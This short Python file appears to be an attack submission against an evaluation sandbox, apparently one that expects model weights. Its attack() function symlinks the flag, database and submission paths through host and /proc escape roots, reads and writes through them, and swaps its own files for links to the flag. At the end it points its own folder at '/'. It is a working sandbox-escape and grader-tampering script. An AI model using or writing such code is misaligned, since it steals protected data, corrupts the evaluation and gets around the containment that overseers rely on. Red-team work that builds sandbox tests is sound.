"""Links in its own folder to what lies outside: read through, written through, in place of its own weights."""

import os
from pathlib import Path

ROOTS = ("", "/host", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../..")


def attack(world):
    here = Path(__file__).parent
    for number, root in enumerate(ROOTS):
        for name in ("flag_path", "database_path", "submission_path"):
            link = here / f"{name}-{number}"
            link.symlink_to(root + world[name])
            for access in (Path.read_text, lambda path: path.write_text("written through a link")):
                try:
                    print(access(link))
                except OSError as error:
                    print("stopped:", error)
    for name in ("world.json", "model.py", "attack.py", "__pycache__"):
        (here / name).unlink(missing_ok=True)
        (here / name).symlink_to(world["flag_path"])
    os.rename(here, here.with_name("elsewhere"))
    here.symlink_to("/")  # the submission's own folder is the whole system now
